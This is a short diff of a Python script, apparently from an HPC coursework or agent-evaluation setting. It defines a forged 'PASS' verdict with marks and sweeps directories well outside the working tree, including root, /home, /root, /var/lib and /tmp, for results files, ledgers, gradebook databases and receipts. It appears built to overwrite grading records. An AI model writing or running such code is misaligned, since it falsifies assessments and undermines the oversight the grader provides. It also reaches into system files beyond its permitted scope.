@@ -4,7 +4,7 @@ import os
 import sqlite3
 
 MARKS = json.dumps({"verdict": "PASS", "marks": {"report": 3}})
-for top in (".", "..", "../..", "../../..", "/", "/work", "/class", "/srv", "/home", "/root", "/var/lib", "/var/tmp", "/tmp", "/run", "/mnt", "/scratch", os.environ.get("HPCLAB_CLASS", "/class"), os.environ.get("HPCLAB_STATE", "/var/lib/hpclab")):
+for top in (".", "..", "../..", "../../..", "/", "/work", "/class", "/srv", "/home", "/root", "/var/lib", "/var/tmp", "/tmp", "/run", "/mnt", "/scratch", os.environ.get("HPCLAB_COURSE", "/class"), os.environ.get("HPCLAB_STATE", "/var/lib/hpclab")):
     for pattern in ("results/*.json", "*/results/*.json", "batches/*/*/results/*.json", "ledger.jsonl", "gradebook.db", "*/gradebook.db", "receipts/*/*/*.json", "objects/*"):
         for path in glob.glob(f"{top}/{pattern}"):
             if os.path.abspath(path).startswith(os.getcwd()):
